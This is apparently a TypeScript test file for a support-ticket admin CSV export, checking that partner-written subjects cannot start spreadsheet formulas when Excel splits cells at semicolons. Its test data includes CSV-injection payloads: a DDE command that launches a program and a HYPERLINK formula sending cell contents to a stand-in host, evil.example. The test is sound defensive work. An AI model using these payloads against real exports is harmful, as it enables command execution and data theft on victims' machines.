import type { SupportThread } from 'shared-api/contract';
import { apiAs } from '../../../testing/api';
import { bearer } from '../../../testing/fixtures';
import { createTestApp, type TestApp } from '../../../testing/test-app';
import { signedInAdmin, signedInPartner } from '../../../modules/finance/testing/money-test-kit';
import { cellText } from '../csv-cell';
import { UTF8_BOM } from '../csv-stream';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t?.close());

/**
 * Excel where the list separator is ';' (the ru, de, es locales, the platform's own languages)
 * opens a .csv by splitting each line at every ';', quotes counting only at the start of a piece:
 * each piece is a cell, and one starting with = + - @ (after spaces or quotes) runs as a formula.
 */
const semicolonCells = (line: string) => line.split(';');
const runsAsFormula = (cell: string) => /^[\s"]*[=+\-@]/.test(cell);

describe('a partner-written text in an export, opened where the list separator is ;', () => {
  it('never starts a cell with a formula', async () => {
    const partner = await signedInPartner(t);
    const api = apiAs(t.app, partner.token);
    const subjects = [
      "Refund;=cmd|' /C calc'!A0;",
      'Refund; =HYPERLINK("http://evil.example/?"&A1;"Open")',
      'Refund;+1+1',
      'Refund;@SUM(1)',
    ];
    for (const subject of subjects) {
      const res = await api.post<SupportThread>('/api/client/support/tickets', {
        subject,
        category: 'finance',
        body: 'Where is my money?',
      });
      expect(res.status).toBe(201);
    }
    const admin = await signedInAdmin(t, ['view-support']);
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/admin/support/tickets/export',
      headers: bearer(admin.token),
    });
    expect(res.statusCode).toBe(200);
    const lines = res.body.replace(UTF8_BOM, '').split('\r\n').filter(Boolean).slice(1);
    expect(lines).toHaveLength(subjects.length);
    const formulas = lines.flatMap((line) => semicolonCells(line).filter(runsAsFormula));
    expect(formulas).toEqual([]);
    // The text stays readable: only an apostrophe is added where a cell would start.
    expect(lines.some((line) => line.includes("Refund;'=cmd|' /C calc'!A0;"))).toBe(true);
  });

  it('leaves a ; alone when what follows it starts no formula', () => {
    expect(cellText('a;b=c')).toBe('a;b=c');
    expect(cellText('a; b')).toBe('a; b');
    expect(cellText('a;-5')).toBe("a;'-5");
    expect(cellText('=a;=b')).toBe("'=a;'=b");
  });
});
